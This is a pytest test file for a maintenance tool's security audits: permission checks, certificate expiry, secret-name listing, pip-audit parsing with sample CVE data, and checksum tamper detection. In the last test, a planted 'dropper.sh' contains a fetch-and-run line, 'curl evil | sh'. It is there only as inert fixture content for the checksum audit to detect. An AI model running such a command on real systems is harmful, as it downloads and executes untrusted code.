"""Security audits: permissions, certificate expiry, secret names, pip-audit, checksums."""

from __future__ import annotations

import json
import os

import pytest

from maintui.core.actions import security
from tests.core.conftest import statuses

# what `pip-audit -f json` prints (2.x): two vulnerable packages, a clean one, a skipped one
AUDIT = {"dependencies": [
    {"name": "jinja2", "version": "3.1.2", "vulns": [
        {"id": "GHSA-h5c8-rqwp-cp95", "fix_versions": ["3.1.3"], "aliases": ["CVE-2024-22195"]},
        {"id": "GHSA-h75v-3vvj-5mfj", "fix_versions": ["3.1.4"], "aliases": ["CVE-2024-34064"]}]},
    {"name": "requests", "version": "2.31.0", "vulns": [
        {"id": "GHSA-9wx4-h78v-vm56", "fix_versions": ["2.32.0"], "aliases": ["CVE-2024-35195"]}]},
    {"name": "rich", "version": "13.7.1", "vulns": []},
    {"name": "maintui", "skip_reason": "Dependency not found on PyPI and could not be audited: "
                                      "maintui (0.1.0)"}],
    "fixes": []}
CLEAN = {"dependencies": [{"name": "rich", "version": "13.7.1", "vulns": []},
                          {"name": "textual", "version": "0.80.0", "vulns": []}], "fixes": []}


def test_permissions_finds_the_world_writable_upload(sandbox):
    result = sandbox.run("security.permissions", path=str(sandbox.root / "app"))
    writable = result.findings[0]
    assert writable.status == "critical" and writable.details["count"] == 1
    assert writable.details["paths"][0].endswith("static/shared-upload.txt")


def test_permissions_reports_files_not_owned_by_the_expected_user(sandbox):
    os.chmod(sandbox.root / "app/static/shared-upload.txt", 0o644)
    result = sandbox.run("security.permissions", path=str(sandbox.root / "app"), owner="nobody")
    assert statuses(result) == ["ok", "warning"] and result.findings[1].details["count"] > 0


def test_the_demo_certificate_expiring_in_20_days_is_a_warning(sandbox):
    result = sandbox.run("security.cert", file=sandbox.config.lookup("app.cert"))
    f = result.findings[0]
    assert f.status == "warning" and f.details["days_left"] == 20 and f.details["self_signed"]


def test_a_certificate_expiring_inside_the_critical_days_fails(sandbox):
    result = sandbox.run("security.cert", file=sandbox.config.lookup("app.cert"),
                         critical_days=25)
    assert not result.ok and statuses(result) == ["critical"]


def test_an_unreadable_certificate_is_a_critical_finding(sandbox):
    bad = sandbox.root / "certs/bad.pem"
    bad.write_text("-----BEGIN CERTIFICATE-----\nnot base64 at all\n-----END CERTIFICATE-----\n")
    result = sandbox.run("security.cert", file=str(bad))
    assert not result.ok and "cannot read the certificate" in result.findings[0].summary


def test_env_secrets_lists_names_and_never_values(sandbox, monkeypatch):
    monkeypatch.setenv("APP_DB_PASSWORD", "hunter2-do-not-show")
    result = sandbox.run("security.env_secrets")
    f = result.findings[0]
    assert "APP_DB_PASSWORD" in f.details["names"] and f.status == "warning"
    assert "hunter2" not in repr(result)


def test_pip_audit_missing_is_a_warning_not_a_failure(sandbox, monkeypatch):
    monkeypatch.setattr(security.shutil, "which", lambda name, path=None: None)
    result = sandbox.run("security.pip_audit")
    assert result.ok and statuses(result) == ["warning"] and "not installed" in result.findings[0].summary


@pytest.fixture
def fake_pip_audit(tmp_path, monkeypatch):
    """`install(stdout, stderr, code)`: a `pip-audit` first on PATH that prints what it is given
    and records its arguments in tmp_path/argv."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")

    def install(stdout: str, stderr: str = "", code: int = 0) -> None:
        (tmp_path / "out").write_text(stdout)
        (tmp_path / "err").write_text(stderr)
        exe = bin_dir / "pip-audit"
        exe.write_text(f"#!/bin/sh\necho \"$@\" > '{tmp_path}/argv'\n"
                       f"cat '{tmp_path}/out'\ncat '{tmp_path}/err' >&2\nexit {code}\n")
        exe.chmod(0o755)

    return install


def test_pip_audit_reports_each_vulnerable_package_with_its_ids(sandbox, fake_pip_audit, tmp_path):
    fake_pip_audit(json.dumps(AUDIT), code=1)  # pip-audit exits 1 when it finds something
    result = sandbox.run("security.pip_audit", requirements=str(sandbox.root / "requirements.txt"))
    f = result.findings[0]
    assert not result.ok and statuses(result) == ["critical"]
    assert f.details["vulnerabilities"] == 3 and f.details["checked"] == 4
    assert f.details["vulnerable"] == [
        {"name": "jinja2", "version": "3.1.2", "ids": ["GHSA-h5c8-rqwp-cp95", "GHSA-h75v-3vvj-5mfj"],
         "fix_versions": ["3.1.3", "3.1.4"]},
        {"name": "requests", "version": "2.31.0", "ids": ["GHSA-9wx4-h78v-vm56"],
         "fix_versions": ["2.32.0"]}]
    assert f.details["skipped"] == ["maintui"]
    assert f.summary.startswith("3 known vulnerabilities in 2 of 4 packages: jinja2 3.1.2")
    assert "requests 2.31.0 (GHSA-9wx4-h78v-vm56)" in f.summary
    argv = (tmp_path / "argv").read_text().split()
    assert argv[:2] == ["-f", "json"] and argv[-2:] == ["-r", str(sandbox.root / "requirements.txt")]


def test_pip_audit_with_nothing_found_is_ok(sandbox, fake_pip_audit):
    fake_pip_audit(json.dumps(CLEAN))
    result = sandbox.run("security.pip_audit")
    assert result.ok and statuses(result) == ["ok"]
    assert result.findings[0].summary == "no known vulnerabilities in 2 packages"
    assert result.findings[0].details["vulnerable"] == []


@pytest.mark.parametrize("stdout", ["", '{"error": "unexpected"}', "[1, 2]"])
def test_pip_audit_that_fails_is_a_warning_with_its_error(sandbox, fake_pip_audit, stdout):
    fake_pip_audit(stdout, "ERROR:pip_audit._cli:requirements.txt: No such file or directory", 1)
    result = sandbox.run("security.pip_audit")
    assert result.ok and statuses(result) == ["warning"]
    assert result.findings[0].summary == ("pip-audit failed (exit 1): ERROR:pip_audit._cli:"
                                          "requirements.txt: No such file or directory")


def test_pip_audit_that_cannot_start_is_a_warning(sandbox, fake_pip_audit, tmp_path):
    fake_pip_audit("")
    (tmp_path / "bin/pip-audit").write_text("#!/nonexistent/python\n")
    result = sandbox.run("security.pip_audit")
    assert statuses(result) == ["warning"] and "could not be started" in result.findings[0].summary


def test_checksums_record_a_baseline_then_report_changed_files(sandbox):
    app = str(sandbox.root / "app")
    first = sandbox.run("security.checksums", paths=[app])
    assert "baseline" in first.findings[0].summary
    (sandbox.root / "app/app.py").write_text("print('tampered')\n")
    second = sandbox.run("security.checksums", paths=[app])
    assert statuses(second) == ["warning"]
    assert second.findings[0].details["changed"] == [str(sandbox.root / "app/app.py")]


def test_permissions_with_an_expected_mode_names_each_file_that_differs(sandbox):
    app = sandbox.root / "app"
    (app / "config.yaml").write_text("db: x\n")
    (app / "config.yaml").chmod(0o644)
    (app / "secrets.yaml").write_text("token: x\n")
    (app / "secrets.yaml").chmod(0o640)
    result = sandbox.run("security.permissions", path=str(app), mode="0640", files=["*.yaml"])
    mode = result.findings[-1]
    assert mode.status == "warning" and mode.details["expected"] == "0640"
    assert mode.details["files"] == [{"path": str(app / "config.yaml"), "mode": "0644"}]
    assert "1 *.yaml files under" in mode.summary and "config.yaml (0644)" in mode.summary


def test_permissions_mode_can_be_critical_and_fail_the_step(sandbox):
    app = sandbox.root / "app"
    result = sandbox.run("security.permissions", path=str(app), mode="644",
                         mode_status="critical", ignore=["static/*"])
    mode = result.findings[-1]
    # healthcheck.sh and bin/demoapp are 0755: not what the audit expects
    assert not result.ok and mode.status == "critical" and mode.details["count"] == 2
    assert sorted(mode.details["paths"]) == [str(app / "bin/demoapp"), str(app / "healthcheck.sh")]


def test_permissions_refuses_a_mode_that_is_not_octal(sandbox):
    from pydantic import ValidationError

    with pytest.raises(ValidationError, match="octal permission such as"):
        sandbox.ctx("security.permissions", path=str(sandbox.root / "app"), mode="rw-r-----")


def test_checksums_name_the_changed_new_and_removed_files_in_the_summary(sandbox):
    app = sandbox.root / "app"
    sandbox.run("security.checksums", paths=[str(app)])
    (app / "app.py").write_text("print('tampered')\n")
    (app / "VERSION").unlink()
    (app / "dropper.sh").write_text("curl evil | sh\n")
    result = sandbox.run("security.checksums", paths=[str(app)])
    summary = result.findings[0].summary
    assert f"changed: {app / 'app.py'}" in summary and f"new: {app / 'dropper.sh'}" in summary
    assert f"removed: {app / 'VERSION'}" in summary
    hashes = result.findings[0].details["hashes"][str(app / "app.py")]
    assert hashes["before"] != hashes["now"] and len(hashes["now"]) == 64
